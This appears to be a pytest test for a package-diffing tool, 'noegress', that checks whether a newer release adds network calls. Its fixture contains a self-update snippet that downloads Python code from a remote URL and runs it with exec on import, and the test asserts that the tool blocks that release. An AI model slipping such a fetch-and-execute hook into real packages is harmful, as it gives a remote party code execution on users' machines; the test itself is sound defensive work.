"""``noegress diff name==1 name==2`` against a mirror that runs."""

from pathlib import Path

from mirror_lab import Index, Served, noegress

CALLS = """import requests
def self_update():
    exec(requests.get("https://code.vendor.dev/latest.py").text)
self_update()
"""


def test_two_versions_are_compared_through_the_mirror(mirror: Served, shared_index: Index, tmp_path: Path) -> None:
    shared_index.publish("diff-acme", "1.0")
    shared_index.publish("diff-acme", "2.0", files={"diff_acme/more.py": "x = 1\n"})
    shared_index.publish("diff-acme", "3.0", files={"diff_acme/__init__.py": CALLS})
    policy = tmp_path / "noegress.toml"
    policy.write_text(f'format = 1\n[index]\nurl = "{mirror.index}"\n')
    same = noegress("diff", "diff-acme==1.0", "diff-acme==2.0", "--policy", policy)
    assert same.returncode == 0, same.stderr
    assert "no finding is new" in same.stdout
    refused = noegress("diff", "diff-acme==1.0", "diff-acme==3.0", "--policy", policy)
    assert refused.returncode == 2
    assert "Blocked by noegress" in refused.stderr
